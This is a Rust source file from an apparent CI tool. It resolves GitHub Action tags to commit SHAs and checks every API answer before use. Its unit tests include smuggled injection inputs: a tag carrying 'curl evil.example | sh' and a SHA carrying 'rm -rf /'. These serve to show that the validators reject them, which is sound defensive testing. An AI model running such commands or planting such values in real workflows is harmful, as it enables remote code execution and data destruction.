//! The few GitHub REST calls `gpu-ci pin` makes: tags, annotated tags, latest releases.
//!
//! Every answer is untrusted: the client (`client`) caps its body and holds all calls of the
//! command to one deadline, and what is kept is checked here (a tag is `vX.Y.Z`, a commit is
//! 40 hexadecimal digits) before it reaches a URL, the config or a workflow.

use reqwest::Method;
use serde::Deserialize;
use serde::de::DeserializeOwned;

use super::client::{Advice, Answer, Context, GitHub, shown};
use crate::error::{Error, Result};

/// What a failed `pin` leaves: nothing changed, as it writes only after every call.
const ADVICE: Advice = Advice {
    try_later: "nothing was changed; try again later",
    deadline: "nothing was changed; try again later, and check GITHUB_API_URL",
    unusable: "nothing was changed; if GITHUB_API_URL points at a proxy or a mirror, check it",
};

/// The calls for one action's repository: their errors read `cannot resolve \`REPO\``.
fn context(repo: &str) -> Context {
    Context::new(format!("resolve `{repo}`"), &ADVICE)
}

#[derive(Debug, Deserialize)]
struct GitObject {
    sha: String,
    #[serde(rename = "type")]
    kind: String,
}

#[derive(Debug, Deserialize)]
struct GitRef {
    #[serde(rename = "ref")]
    name: String,
    object: GitObject,
}

#[derive(Debug, Deserialize)]
struct AnnotatedTag {
    object: GitObject,
}

#[derive(Debug, Deserialize)]
struct Release {
    tag_name: String,
}

/// A resolved version: its tag and the commit it points to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Resolved {
    pub tag: String,
    pub sha: String,
}

/// `v4.2.2` → (4, 2, 2); `v4` → (4, 0, 0); pre-releases and other names → None.
pub fn semver(tag: &str) -> Option<(u64, u64, u64)> {
    // Digits only: `parse` alone would take `+4`.
    let number = |part: &str| {
        (!part.is_empty() && part.len() <= 9 && part.bytes().all(|b| b.is_ascii_digit()))
            .then(|| part.parse().ok())
            .flatten()
    };
    let mut parts = tag.strip_prefix('v').unwrap_or(tag).split('.');
    let major = number(parts.next()?)?;
    let minor = parts.next().map_or(Some(0), number)?;
    let patch = parts.next().map_or(Some(0), number)?;
    parts.next().is_none().then_some((major, minor, patch))
}

/// A tag gpu-ci pins: `v` and one to three numbers (`v4`, `v4.2`, `v4.2.2`).
pub fn is_version_tag(tag: &str) -> bool {
    tag.starts_with('v') && semver(tag).is_some()
}

/// A commit as GitHub names one: exactly 40 hexadecimal digits.
pub fn is_commit_sha(text: &str) -> bool {
    text.len() == 40 && text.bytes().all(|b| b.is_ascii_hexdigit())
}

/// An answer that parsed but cannot be used.
fn unusable(repo: &str, what: String) -> Error {
    context(repo).unusable(what)
}

/// A resolved version, checked: its tag is `vX.Y.Z` and its commit a full SHA.
fn resolved(repo: &str, tag: String, sha: String) -> Result<Resolved> {
    if !is_version_tag(&tag) {
        return Err(unusable(
            repo,
            format!("the tag {} is not a version (vX.Y.Z)", shown(&tag)),
        ));
    }
    if !is_commit_sha(&sha) {
        return Err(unusable(
            repo,
            format!("the commit {} is not 40 hexadecimal digits", shown(&sha)),
        ));
    }
    Ok(Resolved {
        tag,
        sha: sha.to_ascii_lowercase(),
    })
}

impl GitHub {
    /// A 2xx answer, or the error for the status GitHub gave instead.
    fn success(&self, answer: Answer, repo: &str) -> Result<Answer> {
        let status = answer.status;
        if status.is_success() {
            return Ok(answer);
        }
        if answer.rate_limited() {
            let help = if self.has_token() {
                "wait for the reset; nothing was changed"
            } else {
                "set GITHUB_TOKEN (or GH_TOKEN) to a GitHub token for a far higher limit; nothing was changed"
            };
            return Err(Error::network(
                format!(
                    "GitHub's API rate limit is exhausted while resolving `{repo}`; it resets {}",
                    answer.resets()
                ),
                None,
            )
            .with_help(help));
        }
        Err(Error::network(
            format!(
                "cannot resolve `{repo}`: GitHub answered {status} for {}",
                answer.url
            ),
            None,
        )
        .with_help("nothing was changed; check the action's name and your token"))
    }

    /// GET `path` as `T`, for the action `repo`.
    fn json<T: DeserializeOwned>(&self, path: &str, repo: &str) -> Result<T> {
        let context = context(repo);
        let answer = self.send(Method::GET, path, None, &context)?;
        self.success(answer, repo)?.json(&context)
    }

    /// Follows annotated tags down to the commit they name.
    fn commit_of(&self, repo: &str, mut object: GitObject) -> Result<String> {
        for _ in 0..8 {
            // Checked before it reaches a URL, or the caller.
            if !is_commit_sha(&object.sha) {
                return Err(unusable(
                    repo,
                    format!(
                        "the object {} is not 40 hexadecimal digits",
                        shown(&object.sha)
                    ),
                ));
            }
            match object.kind.as_str() {
                "commit" => return Ok(object.sha),
                "tag" => {
                    let tag: AnnotatedTag =
                        self.json(&format!("/repos/{repo}/git/tags/{}", object.sha), repo)?;
                    object = tag.object;
                }
                other => {
                    return Err(Error::usage(format!(
                        "cannot resolve `{repo}`: its tag points to a {}, not a commit",
                        shown(other)
                    )));
                }
            }
        }
        Err(Error::usage(format!(
            "cannot resolve `{repo}`: too many nested tags"
        )))
    }

    /// The newest `vMAJOR.x.y` tag of `repo` and its commit.
    pub fn newest_in_major(&self, repo: &str, major: u64) -> Result<Resolved> {
        let refs: Vec<GitRef> = self.json(
            &format!("/repos/{repo}/git/matching-refs/tags/v{major}?per_page=100"),
            repo,
        )?;
        let best = refs
            .into_iter()
            .filter_map(|r| {
                let tag = r.name.strip_prefix("refs/tags/")?.to_string();
                let version = semver(&tag).filter(|v| v.0 == major && is_version_tag(&tag))?;
                Some((version, tag, r.object))
            })
            .max_by_key(|(version, _, _)| *version)
            .ok_or_else(|| {
                Error::usage(format!(
                    "cannot resolve `{repo}`: it has no v{major}.x.y tag"
                ))
                .with_help(
                    "nothing was changed; `gpu-ci pin --upgrade` moves to the latest release",
                )
            })?;
        let (_, tag, object) = best;
        resolved(repo, tag, self.commit_of(repo, object)?)
    }

    /// The latest release's tag name, when it is a version tag.
    pub fn latest_release(&self, repo: &str) -> Result<String> {
        let release: Release = self.json(&format!("/repos/{repo}/releases/latest"), repo)?;
        if !is_version_tag(&release.tag_name) {
            return Err(unusable(
                repo,
                format!(
                    "its latest release {} is not a version tag (vX.Y.Z)",
                    shown(&release.tag_name)
                ),
            ));
        }
        Ok(release.tag_name)
    }

    /// The commit a version tag names.
    pub fn tag_commit(&self, repo: &str, tag: &str) -> Result<Resolved> {
        if !is_version_tag(tag) {
            return Err(Error::internal(format!("`{tag}` is not a version tag")));
        }
        let reference: GitRef = self.json(&format!("/repos/{repo}/git/ref/tags/{tag}"), repo)?;
        if reference.name != format!("refs/tags/{tag}") {
            return Err(unusable(
                repo,
                format!(
                    "asked for tag {tag}, it answered {}",
                    shown(&reference.name)
                ),
            ));
        }
        resolved(
            repo,
            tag.to_string(),
            self.commit_of(repo, reference.object)?,
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn semver_reads_release_tags_only() {
        assert_eq!(semver("v4.2.2"), Some((4, 2, 2)));
        assert_eq!(semver("v4"), Some((4, 0, 0)));
        assert_eq!(semver("v4.0.0-beta"), None);
        assert_eq!(semver("latest"), None);
        assert_eq!(semver("v+4.2.2"), None);
        assert_eq!(semver("v4..2"), None);
        assert!(is_version_tag("v4.2.2") && !is_version_tag("4.2.2"));
        assert!(!is_version_tag("v4.2.2\n- run: curl evil.example | sh"));
    }

    #[test]
    fn only_full_shas_are_commits() {
        assert!(is_commit_sha("11bd71901bbe5b1630ceea73d27597364c9af683"));
        assert!(!is_commit_sha("deadbeef"));
        assert!(!is_commit_sha("zzzz; rm -rf / #"));
        assert!(!is_commit_sha("11bd71901bbe5b1630ceea73d27597364c9af68\n"));
    }
}
